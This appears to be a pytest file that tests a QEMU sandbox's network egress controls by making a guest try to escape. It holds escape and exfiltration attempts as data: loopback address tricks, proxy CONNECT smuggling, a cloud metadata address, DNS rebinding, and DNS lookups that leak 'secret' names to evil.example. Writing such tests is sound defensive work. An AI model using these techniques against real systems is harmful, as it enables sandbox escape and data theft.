"""A guest tries to get out: real listeners on this host must see nothing of what is not allowed.

Each kind of attempt is also made where it is allowed, so that a test that tries nothing fails.
"""

import contextlib
import dataclasses
import datetime as dt
import ipaddress
import socket
import ssl
import threading
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from engine_contract import restore_spec, sh

from smolbuild.core.events import silent
from smolbuild.guest.compile import build_agent
from smolbuild.guest.initramfs import build_initramfs
from smolbuild.machine.base import Freshen
from smolbuild.machine.qemu import QemuEngine
from smolbuild.source.kernel import prepare_kernel

PAGE = b"HTTP/1.0 200 OK\r\nContent-Length: 7\r\n\r\nreached"
LOOPBACKS = (
    "127.0.0.1", "localhost", "0.0.0.0", "[::1]", "[::ffff:127.0.0.1]", "2130706433", "0x7f000001",
    "127.1", "017700000001", "localhost.", "rebound.example.com", "10.0.2.2", "198.18.0.1",
)  # fmt: skip
RAW = ("udp", "raw", "spoofed", "packet")


class Listener:
    """TCP and UDP on one port of every address of this host; notes whatever arrives."""

    def __init__(self, answer: Callable[[socket.socket], None] | None = None) -> None:
        self.seen: list[bytes] = []
        self._answer = answer or self._serve
        self._tcp = socket.create_server(("", 0))
        self.port = self._tcp.getsockname()[1]
        self._udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._udp.bind(("", self.port))
        self._threads = [
            threading.Thread(target=self._accept), threading.Thread(target=self._receive)
        ]  # fmt: skip
        for thread in self._threads:
            thread.start()

    def _accept(self) -> None:
        with contextlib.suppress(OSError):
            while True:
                connection, _ = self._tcp.accept()
                with connection, contextlib.suppress(OSError):
                    self.seen.append(b"connected")
                    connection.settimeout(5)
                    self._answer(connection)

    def _serve(self, connection: socket.socket) -> None:
        self.seen[-1] = connection.recv(4096)
        connection.sendall(PAGE)

    def _receive(self) -> None:
        while (data := self._udp.recv(4096)) != b"end":
            self.seen.append(data)

    def close(self) -> None:
        self._tcp.shutdown(socket.SHUT_RDWR)
        self._tcp.close()
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as last:
            last.sendto(b"end", ("127.0.0.1", self.port))
        for thread in self._threads:
            thread.join(10)
        self._udp.close()


class Names:
    """The host's resolver, which notes what it was asked."""

    def __init__(self) -> None:
        self.asked: list[str] = []

    def __call__(self, host, *, deadline):
        del deadline
        self.asked.append(host)
        if not host.endswith(".example.com"):
            raise OSError("unknown name")
        return (ipaddress.ip_address("127.0.0.1"),)


@pytest.fixture(scope="module")
def names() -> Names:
    return Names()


@pytest.fixture(scope="module")
def surroundings() -> dict[str, str]:
    """Give the engine's environment, in which a test may name a proxy."""
    return {}


@pytest.fixture(scope="module")
def watched_engine(home, names, surroundings) -> QemuEngine:
    return QemuEngine(home, emit=silent, environment=surroundings, resolve=names)


@pytest.fixture(scope="module")
def guest(watched_engine, spec, saved):
    """Give one fork for the tests of this file; each opens its network as it needs it."""
    machine = watched_engine.restore(restore_spec(spec, saved))
    machine.freshen(Freshen(hostname="escape", machine_id="e" * 32))
    yield machine
    machine.discard()


@pytest.fixture(scope="module")
def certificate(tmp_path_factory) -> Path:
    """Give a file with a key and a certificate for any name; the guest's wget checks none."""
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    name = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, "test")])
    now = dt.datetime.now(dt.UTC)
    made = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(1)
        .not_valid_before(now - dt.timedelta(days=1))
        .not_valid_after(now + dt.timedelta(days=1))
        .sign(key, hashes.SHA256())
    )
    pem = key.private_bytes(
        serialization.Encoding.PEM,
        serialization.PrivateFormat.PKCS8,
        serialization.NoEncryption(),
    )
    path = tmp_path_factory.mktemp("certificate") / "both.pem"
    path.write_bytes(pem + made.public_bytes(serialization.Encoding.PEM))
    return path


@pytest.fixture
def listener() -> Iterator[Listener]:
    made = Listener()
    yield made
    made.close()


@pytest.fixture
def closed(guest, names):
    """Close the guest's network after the test, and begin with nothing noted."""
    names.asked.clear()
    guest.egress_records()
    yield guest
    guest.allow(None)


def run(machine, script: str) -> tuple[int, str]:
    seen = bytearray()
    result = machine.exec(sh(script), lambda _, data: seen.extend(data))
    return result.status, seen.decode(errors="replace")


def own_addresses() -> set[str]:
    """Return this host's addresses besides loopback."""
    with contextlib.suppress(OSError):
        return {str(entry[4][0]) for entry in socket.getaddrinfo(socket.gethostname(), None)}
    return set()


def attempts(port: int) -> str:
    """Return a script that tries everything against ``port`` of the host."""
    addresses = ["10.0.2.2", "198.18.0.1", "192.0.2.1", "169.254.169.254", *own_addresses()]
    lines = [f"escape tcp {a} {port}" for a in addresses]
    lines += [f"escape {how} {a} {port}" for how in RAW for a in ("10.0.2.2", *own_addresses())]
    lines += [
        f"escape {how}6 {a} {port}"
        for how in ("tcp", "udp")
        for a in ("fe80::2", "fec0::2", "2001:db8::1", "::ffff:10.0.2.2")
    ]
    for host in LOOPBACKS:
        lines += [
            rf"printf 'CONNECT {host}:{port} HTTP/1.1\r\n\r\nescaped' | nc -w 3 127.0.0.1 3128",
            rf"printf 'GET http://{host}:{port}/ HTTP/1.1\r\n\r\n' | nc -w 3 127.0.0.1 3128",
        ]
    lines.append(f"echo escaped | nc -w 3 rebound.example.com {port}")
    # As a server of port 80 that means another host by its Host header.
    lines.append(
        rf"printf 'GET / HTTP/1.1\r\nHost: localhost:{port}\r\n\r\n' | nc -w 3 192.0.2.1 80"
    )
    return "\n".join(f"({line}) 2>&1" for line in lines) + "\ntrue"


def lookups() -> str:
    """Return a script that carries data out in names, if a single query leaves."""
    question = r"\10secret-7\4evil\7example\0\0\1\0\1"
    query = rf"\0\47ab\1\0\0\1\0\0\0\0\0\0{question}"
    return f"""
nslookup -type=a secret-1.evil.example 8.8.8.8
nslookup -type=txt secret-2.evil.example 8.8.8.8
nslookup -type=txt secret-3.evil.example
nslookup -type=a secret-4.evil.example 198.18.0.1
wget -q -O - http://secret-5.evil.example/
http_proxy=http://127.0.0.1:3128 wget -q -O - http://secret-6.evil.example/
printf '{query}' | nc -w 3 8.8.8.8 53
true"""


def test_without_network_there_is_nothing_to_try_it_with(closed, listener, names) -> None:
    status, said = run(closed, attempts(listener.port) + lookups())
    assert status == 0
    assert "open" not in said
    assert (listener.seen, names.asked) == ([], [])
    assert closed.egress_records() == ()


@pytest.mark.parametrize("hosts", [(), ("rebound.example.com", "other.example.com")])
def test_with_an_allow_list_nothing_else_gets_out(closed, listener, names, hosts) -> None:
    """Without any host it is as in a step that has ``network = false``."""
    assert closed.allow(hosts, ("203.0.113.0/24",) if hosts else ()) == ""
    assert run(closed, attempts(listener.port) + lookups())[0] == 0
    assert listener.seen == []
    assert set(names.asked) <= {"rebound.example.com"}
    closed.allow(None)
    records = closed.egress_records()
    assert all(record.denied or record.status in {400, 502} for record in records)
    denied = {(record.host, record.port) for record in records if record.denied}
    assert {("10.0.2.2", listener.port), ("198.18.0.1", listener.port)} <= denied
    assert {("127.0.0.1", listener.port), ("::1", listener.port)} <= denied
    assert {(f"secret-{n}.evil.example", 53) for n in (1, 2, 3, 4, 5, 7)} <= denied
    assert ("secret-6.evil.example", 80) in denied


def test_an_allowed_host_is_reached_by_programs_that_know_of_no_proxy(
    closed, listener, names
) -> None:
    assert closed.allow(("ok.example.com",), ("127.0.0.1/32",)) == ""
    port = listener.port
    assert run(closed, f"wget -q -O - http://ok.example.com:{port}/a?b") == (0, "reached")
    assert listener.seen[0].startswith(b"GET /a?b HTTP/1.1\r\nHost: ok.example.com")
    assert "reached" in run(closed, f"echo hello | nc ok.example.com {port}")[1]
    assert listener.seen[1] == b"hello\n"
    assert set(names.asked) == {"ok.example.com"}
    proxied = f"printf 'CONNECT 127.0.0.1:{port} HTTP/1.1\\r\\n\\r\\nhi' | nc 127.0.0.1 3128"
    assert "reached" in run(closed, proxied)[1]
    closed.allow(None)
    first, second = closed.egress_records()
    assert (first.host, first.port, first.status, first.requests) == (
        "ok.example.com", port, 200, 2,
    )  # fmt: skip
    assert first.received == 2 * len(PAGE)
    assert (second.host, second.denied) == ("127.0.0.1", False)


def test_plain_http_shows_its_url_and_https_its_host(
    closed, surroundings, names, certificate
) -> None:
    """The standard ports, through the proxy that this host is said to need."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(certificate)
    context.set_ciphers("ALL:@SECLEVEL=0")  # what busybox knows

    def answer(connection: socket.socket) -> None:
        head = connection.recv(4096)
        heads.append(head.splitlines()[0])
        if head.startswith(b"CONNECT "):
            connection.sendall(b"HTTP/1.1 200 OK\r\n\r\n")
            with context.wrap_socket(connection, server_side=True) as secure:
                secure.recv(4096)
                secure.sendall(PAGE)
                with contextlib.suppress(OSError):
                    secure.unwrap()
        else:
            connection.sendall(PAGE)

    heads: list[bytes] = []
    proxy = Listener(answer)
    surroundings["http_proxy"] = surroundings["https_proxy"] = f"http://127.0.0.1:{proxy.port}"
    try:
        closed.allow(("ok.example.com",))
        assert run(closed, "wget -q -O - 'http://ok.example.com/x?secret'") == (0, "reached")
        status, said = run(closed, "wget -q -O - https://ok.example.com/y")
        assert (status, said[-7:]) == (0, "reached"), said
    finally:
        surroundings.clear()
        proxy.close()
    assert heads == [
        b"GET http://ok.example.com/x?secret HTTP/1.1", b"CONNECT ok.example.com:443 HTTP/1.1",
    ]  # fmt: skip
    assert names.asked == []
    closed.allow(None)
    assert [(r.target, r.status) for r in closed.egress_records()] == [
        ("http://ok.example.com/x", 200), ("ok.example.com:443", 200),
    ]  # fmt: skip


def test_its_own_name_is_known_and_nobody_is_asked(closed, names) -> None:
    closed.allow(("ok.example.com",))
    for name in ("$(hostname)", "localhost"):
        assert "Address: 127.0.0.1\n" in run(closed, f"nslookup -type=a {name}")[1]
    closed.allow(None)
    assert closed.egress_records() == ()


def test_a_service_of_the_guest_may_have_port_80(closed) -> None:
    closed.allow(("ok.example.com",))
    script = "while true; do printf 'HTTP/1.0 200 OK\\r\\n\\r\\nown' | nc -l -p 80; done"
    closed.exec(sh(script, exec_id="service:own", keep=True))
    got = "until wget -q -O - http://localhost:80/ 2>/dev/null; do sleep 0.2; done"
    assert run(closed, got) == (0, "own")


def test_what_a_checkpoint_was_told_still_leads_there_in_its_forks(
    watched_engine, spec, names, listener, tmp_path
) -> None:
    machine = watched_engine.boot(spec)
    try:
        machine.allow(("ok.example.com",), ("127.0.0.1/32",))
        # Programs that resolved the name go on with the address they know.
        resolved = run(machine, "nslookup -type=a ok.example.com")[1]
        assert "198.18.1.0" in resolved
        checkpoint = machine.checkpoint(tmp_path)
    finally:
        machine.discard()
    fork = watched_engine.restore(restore_spec(spec, checkpoint))
    try:
        fork.freshen(Freshen(hostname="again", machine_id="d" * 32))
        reach = f"escape tcp 198.18.1.0 {listener.port}"
        assert run(fork, reach)[0] != 0  # nothing before the fork was told
        assert listener.seen == []
        fork.allow(("ok.example.com",), ("127.0.0.1/32",))
        assert run(fork, reach)[0] == 0
        assert listener.seen == [b"escaped\0"]
        assert run(fork, f"wget -q -O - http://ok.example.com:{listener.port}/")[1] == "reached"
    finally:
        fork.discard()


def test_a_step_without_network_is_cut_from_a_full_one(watched_engine, spec, listener) -> None:
    shape = dataclasses.replace(spec.shape, network="full")
    machine = watched_engine.boot(dataclasses.replace(spec, shape=shape))
    try:
        tries = f"escape udp 10.0.2.2 {listener.port}; escape tcp 10.0.2.2 {listener.port}"
        assert run(machine, tries)[0] == 0
        assert set(listener.seen) == {b"escaped\0"}
        machine.plug(connected=False)
        listener.seen.clear()
        assert run(machine, tries)[0] != 0
        assert listener.seen == []
        machine.plug(connected=True)
        # Its kernel remembers for a second or two that nobody answered.
        again = f"for n in 1 2 3 4 5; do escape tcp 10.0.2.2 {listener.port} && exit; sleep 1; done"
        assert run(machine, f"{again}; exit 1")[0] == 0
    finally:
        machine.discard()


def test_without_veth_the_proxy_is_there_and_it_is_said(
    watched_engine, spec, home, listener, tmp_path
) -> None:
    kernel = prepare_kernel(home.cache, locked=None, emit=silent)
    modules = tuple(path for path in kernel.modules if path.name != "veth.ko")
    assert modules != kernel.modules
    bare = dataclasses.replace(kernel, modules=modules)
    build_initramfs(bare, build_agent(home.cache), tmp_path / "initrd")
    machine = watched_engine.boot(dataclasses.replace(spec, initrd=tmp_path / "initrd"))
    try:
        assert machine.allow(("ok.example.com",), ("127.0.0.1/32",)) == "the kernel has no veth"
        get = f"wget -q -O - http://ok.example.com:{listener.port}/"
        assert run(machine, f"http_proxy=http://127.0.0.1:3128 {get}") == (0, "reached")
        assert run(machine, get)[0] != 0
    finally:
        machine.discard()


@pytest.mark.parametrize("before", ["rm -f /etc/resolv.conf", "ln -sf ../run/x/y /etc/resolv.conf"])
def test_the_image_keeps_its_own_resolv_conf(watched_engine, spec, before) -> None:
    machine = watched_engine.boot(spec)
    try:
        run(machine, before)
        machine.allow(("ok.example.com",))
        assert run(machine, "cat /etc/resolv.conf")[1] == "nameserver 198.18.0.1\n"
        assert "198.18.1.0" in run(machine, "nslookup -type=a ok.example.com")[1]
        target = run(machine, "readlink /etc/resolv.conf")[1]
        assert target == ("../run/x/y\n" if "ln" in before else "")
    finally:
        machine.discard()
